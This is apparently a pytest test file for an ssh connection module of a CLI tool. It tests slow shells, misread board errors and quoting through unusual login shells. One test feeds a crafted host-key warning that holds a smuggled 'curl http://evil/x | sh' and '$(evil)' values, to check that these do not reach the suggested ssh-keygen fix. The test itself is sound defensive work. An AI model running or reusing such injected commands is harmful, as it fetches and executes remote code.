"""A connection to a board that is slow, broken or hostile, or whose login shell is an odd one."""

from __future__ import annotations

import shlex
import tracemalloc
from pathlib import Path

import pytest
from loopback import Network

from musgd_cli.errors import MusgdError
from musgd_cli.remote import ssh
from musgd_cli.remote.ssh import Connection


def program(folder: Path, script: str) -> str:
    """Make a script to call in place of ssh."""
    file = folder / "ssh.sh"
    file.write_text(f"#!/bin/sh\n{script}\n")
    file.chmod(0o755)
    return str(file)


@pytest.mark.parametrize("says", ["read -r answer", "yes | tr -d '\\n'"])
def test_a_shell_that_does_not_begin_is_given_up(
    says: str, network: Network, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = f"waits-{len(network.daemons)}"
    (network.board(name) / ".bashrc").write_text(says)
    # A script, whose ssh would stay where the script alone is ended.
    script = program(tmp_path, f'ssh -F {network.config} "$@"\nexit')
    monkeypatch.setenv("MUSGD_SSH", script)
    monkeypatch.setattr(ssh, "GREETING_S", 0.7)
    tracemalloc.start()
    try:
        with pytest.raises(MusgdError) as raised, Connection(name):
            pass
        assert tracemalloc.get_traced_memory()[1] < 2**20
    finally:
        tracemalloc.stop()
    assert raised.value.what == f"{name}: its shell has not begun within 0.7 s"
    assert raised.value.mend.endswith(f"{script} {name} true")


def test_what_a_board_says_is_not_taken_for_ssh_s(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(said: str, code: int) -> MusgdError:
        script = program(tmp_path, f"echo {shlex.quote(said)} >&2; exit {code}")
        monkeypatch.setenv("MUSGD_SSH", script)
        with pytest.raises(MusgdError) as raised, Connection("pi"):
            pass
        return raised.value

    of_board = refused("-bash: /home/pi/.profile: Permission denied", 1)
    assert of_board.what.endswith(
        "pi: its shell ended with exit code 1: -bash: /home/pi/.profile: Permission denied"
    )
    assert of_board.mend.startswith("see what it does, perhaps in its .bashrc: ")
    # A board can end with ssh's own code too.
    changed = "IDENTIFICATION HAS CHANGED\n  ssh-keygen -f "
    for removal, typed in (
        ("'/home/me/.ssh/known_hosts' -R 'pi'", "ssh-keygen -f /home/me/.ssh/known_hosts -R pi"),
        ('"a" -R "[pi]:22"', "ssh-keygen -f a -R '[pi]:22'"),
        ("a -R pi; curl http://evil/x | sh", "ssh-keygen -R with the host's name"),
        ('"a\\" -R "; evil #"', "ssh-keygen -R with the host's name"),
        ('"$(evil)" -R "`evil`"', "ssh-keygen -f '$(evil)' -R '`evil`'"),
    ):
        mend = refused(changed + removal, 255).mend
        assert mend.startswith(f"if it was set up anew: {typed}, then "), removal


def test_a_script_reaches_an_sh_through_every_login_shell(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # What csh and fish do not leave alone in single quotes; ssh hands a shell its last word.
    picky = r"""for line; do :; done
case $line in *'
'* | *'!'* | *'\\'*) echo 'Unmatched quote.' >&2; exit 1 ;; esac
exec sh -c "$line" """
    monkeypatch.setenv("MUSGD_SSH", program(tmp_path, picky))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    odd = r"""it's "é" 50% \\ \n \0041 !here $HOME `id`""" + "\n\\"
    with Connection("pi") as board:
        assert board.home == str(tmp_path)
        assert board.run(["printf", "%s", odd]).out == odd
        board.send('cat >"$1"', "it's", write=lambda stdin: stdin.write(b"all") and None)
    assert (tmp_path / "it's").read_text() == "all"
